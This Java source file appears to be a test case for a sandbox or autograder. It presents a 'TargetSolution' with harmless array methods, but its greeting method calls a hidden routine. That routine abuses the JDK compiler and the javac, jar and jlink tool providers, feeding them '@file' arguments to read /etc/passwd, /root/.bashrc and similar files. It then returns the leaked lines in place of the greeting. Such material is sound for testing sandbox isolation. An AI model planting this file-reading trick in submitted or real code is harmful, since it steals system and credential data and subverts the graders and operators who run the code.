// Uses the compiler and the tools of the JDK to read files by argument files; greets wrongly only if one was read.
// expects: graded 10
// needs: walls
package attacked.target;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.util.spi.ToolProvider;
import javax.tools.JavaCompiler;

public final class TargetSolution implements Target {
    private static final String[] FILES = {"/etc/passwd", "/etc/hostname", "/root/.bashrc", "/proc/1/root/etc/passwd"};

    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        String loot = loot();
        return loot.isEmpty() ? "Hello, " + name : loot;
    }

    private static String loot() {
        StringBuilder loot = new StringBuilder();
        JavaCompiler compiler = javax.tools.ToolProvider.getSystemJavaCompiler();
        for (String file : FILES) {
            ByteArrayOutputStream said = new ByteArrayOutputStream();
            if (compiler != null) {
                compiler.run(null, said, said, "@" + file);
            }
            for (String tool : new String[] {"javac", "jar", "jlink"}) {
                PrintStream out = new PrintStream(said, true);
                ToolProvider.findFirst(tool).ifPresent(found -> found.run(out, out, "@" + file));
            }
            said.toString()
                    .lines()
                    .filter(line -> line.contains(":x:") || line.contains("invalid flag"))
                    .forEach(loot::append);
        }
        return loot.toString();
    }
}
